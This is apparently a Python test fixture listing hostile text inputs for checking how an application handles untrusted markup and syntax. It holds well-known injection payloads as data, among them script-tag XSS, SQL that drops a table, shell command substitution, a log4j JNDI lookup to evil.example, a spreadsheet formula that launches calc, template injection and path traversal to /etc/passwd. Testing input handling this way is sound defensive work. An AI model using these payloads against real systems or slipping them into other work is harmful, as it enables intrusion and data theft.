"""What some program or other takes for its own syntax, in text."""

from __future__ import annotations

from tests.hostile.kind import payloads

KINDS = payloads(
    "markup",
    {
        "styles": "[red]red[/red] [b]bold[/b]",
        "end of nothing": "[/]",
        "end of what is not open": "[/x] [/b][/b]",
        "open bracket": "[ [[ [/ [",
        "action": "[@click=app.quit]quit[/]",
        "action that writes": "[@click=app.screenshot('x.svg','.')]save[/]",
        "Textual link": "[link=file:///etc/passwd]here[/link]",
        "variable": "[$primary]v[/] $primary $x",
        "backslash before a bracket": "\\[red] \\\\[red]",
        "braces": "{0} {what} {{}} {!r} {:>99999999}",
        "percent": "%s %n %(x)s %99999999d",
        "emoji name": ":bomb: :thumbs_up:",
        "Markdown": "# h\n\n* [x](javascript:alert(1)) ![i](file:///etc/passwd) `code` ***b***",
        "autolink": "<https://evil.example/?q=1> vscode://x",
        "HTML": "<script>alert(1)</script><img src=x onerror=y><!-- c -->",
        "entities": "&lt;b&gt; &#27;[31m &#x1b;",
        "XML bomb": '<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>',
        "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 1 %>",
        "log4j": "${jndi:ldap://evil.example/x}",
        "shell": "$(touch pwned) `touch pwned` ; touch pwned | sh & > pwned",
        "SQL": "'; drop table articles; -- \" ) or 1=1",
        "full text syntax": 'NEAR(a b, 9) AND OR NOT "a" * ^x col: -{title}: (',
        "spreadsheet": "=cmd|' /C calc'!A0 +1 -1 @SUM(1)",
        "regular expression": "(a+)+$ (.*)*x [a-z",
        "TeX": "\\input{/etc/passwd} \\write18{x}",
        "mail": "\nFrom nobody\nX-Evil: 1\n.\n",
        "front matter below": "\n---\ntitle: not this\n---\n",
        "path": "../../../../etc/passwd C:\\windows\\system32 ~root/ file:///dev/zero",
        "a query of ours": "#tag -not (or) title:x date:2021..2020 id:../x",
    },
)
